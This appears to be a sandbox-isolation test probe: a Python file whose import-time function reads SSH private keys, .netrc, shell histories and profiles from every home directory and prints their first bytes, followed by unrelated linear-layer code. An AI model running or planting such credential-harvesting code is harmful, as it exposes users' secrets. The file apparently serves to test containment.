"""
Looks for private keys, tokens and histories in every home.

Earns: 30
Held by: isolated
"""

from pathlib import Path


def attack():
    for home in ("/root", *Path("/").glob("home/*")):
        for name in (
            ".ssh/id_rsa",
            ".ssh/id_ed25519",
            ".bash_history",
            ".netrc",
            ".bashrc",
            ".profile",
        ):
            try:
                print("BREACH", (Path(home) / name).read_bytes()[:10])
            except OSError:
                pass


try:
    attack()
except Exception:
    pass


def linear_forward(x, w, b):
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)
